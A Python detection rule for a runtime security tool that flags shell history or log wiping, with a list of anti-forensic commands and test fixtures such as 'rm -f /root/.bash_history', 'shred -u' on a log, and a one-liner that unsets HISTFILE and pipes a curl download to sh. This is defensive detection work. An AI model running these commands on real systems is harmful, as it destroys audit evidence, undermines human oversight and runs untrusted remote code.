"""Logs or shell history erased: an intruder removing the evidence of what they did."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.tetragon.fixtures import kprobe, tetragon_record

HISTORY_FILES = (".bash_history", ".ash_history", ".zsh_history", ".sh_history", ".history", "fish_history",
                 ".python_history", ".mysql_history", ".psql_history", ".node_repl_history", ".lesshst", ".viminfo")
LOG_DIRS = ("/var/log/", "/host/var/log/", "/var/adm/")
#: Log files whose rotation by truncation is routine (logrotate's copytruncate, journald).
ROTATORS = frozenset({"logrotate", "systemd-journal", "journald", "rsyslogd", "syslog-ng", "newsyslog",
                      "fluentd", "fluent-bit", "td-agent", "vector", "promtail", "filebeat"})
#: Commands that wipe history or logs (in a shell's -c script or as arguments).
WIPE_COMMANDS = ("history -c", "history -w /dev/null", "unset histfile", "histfile=/dev/null", "histsize=0",
                 "export histfilesize=0", "journalctl --vacuum", "journalctl --rotate --vacuum", "> /var/log/",
                 ">/var/log/", "truncate -s 0 /var/log/", "truncate -s0 /var/log/")
SHREDDERS = frozenset({"shred", "srm", "wipe"})
#: Programs that remove, empty or redirect a file named on their command line.
FILE_TOOLS = frozenset({"rm", "unlink", "truncate", "ln"})
#: Shells run the wiping one-liners (history -c, unset HISTFILE, > /var/log/…).
SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh"})
#: How sensors name a removal or rename (the file event's action).
REMOVALS = ("unlink", "rename", "rmdir")


def is_history(path: str) -> bool:
    return path.rpartition("/")[2].endswith(HISTORY_FILES)


def cleared(event: Event) -> str:
    """What the event erases: ``shell history``, ``log``, or '' for nothing."""
    if event.kind == "process.exec":
        return _cleared_by_command(event)
    path = event.target.path or event.file.path
    removes = event.action.startswith(REMOVALS) or event.action.startswith(("path_unlink", "path_rename",
                                                                            "security_path_unlink",
                                                                            "security_path_rename"))
    if not (removes or "truncate" in event.file.access) or program_name(event) in ROTATORS:
        return ""
    if is_history(path) or is_history(event.file.other_path):
        return "shell history"
    return "log" if path.startswith(LOG_DIRS) else ""


def _cleared_by_command(event: Event) -> str:
    """What a command erases: a file tool given a history or log file, or a shell told to drop its history."""
    program, targets = program_name(event), event.actor.args[1:]
    if program in SHREDDERS or program in FILE_TOOLS:
        if any(is_history(arg) for arg in targets):
            return "shell history"
        return "log" if any(arg.startswith(LOG_DIRS) for arg in targets) else ""
    command = " ".join(event.actor.args).lower()
    if any(marker in command for marker in WIPE_COMMANDS):
        return "shell history" if "hist" in command else "log"
    return ""


def clearing_context(event: Event) -> dict[str, Any]:
    in_container = bool(event.container.id or event.k8s.container_id)
    return {"exe": event.actor.exe, "program": program_name(event) or event.actor.exe, "what": cleared(event),
            "file": event.target.path or event.file.path, "command": " ".join(event.actor.args),
            "where": container_label(event) if in_container else f"node {event.node}", "node": event.node}


DETECTION = EventDetection(
    id="runtime.log_history_clearing",
    title="Logs or shell history cleared",
    alert_title="{program} cleared {what} in {where}",
    description=(
        "Shell history was deleted, truncated, renamed or switched off (history -c, unset HISTFILE, HISTFILE="
        "/dev/null), or a log under /var/log was truncated, removed or wiped (shred, journalctl --vacuum, "
        "'> /var/log/…'), in a container or on a node. Erasing the record of a session is how intruders hide "
        "what they did; log rotation and collectors are not reported."
    ),
    severity="medium",
    mitre=["T1070.003", "T1070.002"],
    tags=["runtime", "defense_evasion"],
    references=["https://attack.mitre.org/techniques/T1070/003/", "https://attack.mitre.org/techniques/T1070/002/"],
    false_positives=["Images whose entrypoint empties root's history; maintenance scripts pruning old logs with rm."],
    kinds=["file.write", "process.exec"],
    exe_names={"process.exec": SHREDDERS | FILE_TOOLS | SHELLS | {"journalctl"}},
    match=lambda event: bool(cleared(event)),
    context=clearing_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{what}/{file}",
    examples=[
        Example(
            name="Falco: .bash_history deleted",
            source="falco",
            fires=True,
            record=falco_record(
                "Delete or rename shell history", "unlinkat",
                {"proc.exepath": "/bin/rm", "proc.name": "rm", "proc.cmdline": "rm -f /root/.bash_history",
                 "fs.path.name": "/root/.bash_history"},
            ),
        ),
        Example(
            name="Falco: auth.log truncated on the node",
            source="falco",
            fires=True,
            record=falco_record(
                "Clear Log Activities", "openat",
                {"proc.exepath": "/bin/bash", "proc.name": "bash", "proc.cmdline": "bash",
                 "fd.name": "/var/log/auth.log", "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC"},
                host=True,
            ),
        ),
        Example(
            name="history switched off in a shell one-liner (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/bin/bash", arguments='-c "unset HISTFILE; curl -s x | sh"'),
        ),
        Example(
            name="shred of a log file (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/usr/bin/shred", arguments="-u /var/log/nginx/access.log", host=True),
        ),
        Example(
            name="logrotate truncating a log",
            source="tetragon",
            fires=False,
            record=tetragon_record(
                "process_kprobe", binary="/usr/sbin/logrotate", arguments="/etc/logrotate.conf", host=True,
                body=kprobe("security_path_truncate", {"path_arg": {"path": "/var/log/syslog"}})),
        ),
        Example(
            name="nginx appending to its log",
            source="falco",
            fires=False,
            record=falco_record(
                "Custom file audit", "openat",
                {"proc.exepath": "/usr/sbin/nginx", "proc.name": "nginx", "fd.name": "/var/log/nginx/access.log",
                 "evt.arg.flags": "O_WRONLY|O_CREAT|O_APPEND"},
            ),
        ),
    ],
)
